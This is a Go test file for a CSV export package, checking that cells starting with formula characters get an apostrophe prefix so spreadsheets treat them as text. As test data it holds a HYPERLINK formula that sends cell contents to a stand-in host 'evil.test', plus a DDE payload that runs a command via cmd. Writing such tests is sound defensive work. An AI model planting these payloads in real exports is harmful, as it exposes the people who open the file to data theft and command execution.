package csvout

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
)

func TestCell(t *testing.T) {
	neg := -12.5
	for _, c := range []struct {
		name string
		in   any
		want string
	}{
		{"plain text", "/pricing", "/pricing"},
		{"empty", "", ""},
		{"nil", nil, ""},
		{"equals", "=HYPERLINK(\"https://evil.test/?d=\"&A1,\"x\")", "'=HYPERLINK(\"https://evil.test/?d=\"&A1,\"x\")"},
		{"plus", "+1+1", "'+1+1"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"line feed", "\n=1+1", "'\n=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－1", "'－1"},
		{"full-width at", "＠SUM(A1)", "'＠SUM(A1)"},
		{"visitor text that looks like a number", "-12", "'-12"},
		{"dangerous character inside", "a=b+c-d@e", "a=b+c-d@e"},
		{"apostrophe already", "'=1", "'=1"},
		{"space first", " =1", " =1"},
		{"our negative float", -12.0, "-12"},
		{"our float", 52.5, "52.5"},
		{"our negative change", &neg, "-12.5"},
		{"no change", (*float64)(nil), ""},
		{"count", uint64(42), "42"},
		{"int", -3, "-3"},
		{"small unsigned", uint16(1280), "1280"},
		{"list of visitor text", []string{"=1", "b"}, `["=1","b"]`},
		{"struct as JSON", struct{ A string }{"x"}, `{"A":"x"}`},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("%s: Cell(%#v) = %q, want %q", c.name, c.in, got, c.want)
		}
	}
}

// A written file reads back with every dangerous text cell prefixed, quoting intact.
func TestWriterRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	if err := w.WriteStrings([]string{"name", "value"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Write("=cmd|' /C calc'!A0", "-1,\"2\"\n3"); err != nil {
		t.Fatal(err)
	}
	if err := w.Write("\t@x", -7); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"name", "value"}, {"'=cmd|' /C calc'!A0", "'-1,\"2\"\n3"}, {"'\t@x", "-7"}}
	if !slices.EqualFunc(recs, want, slices.Equal) {
		t.Errorf("read back %q, want %q", recs, want)
	}
}
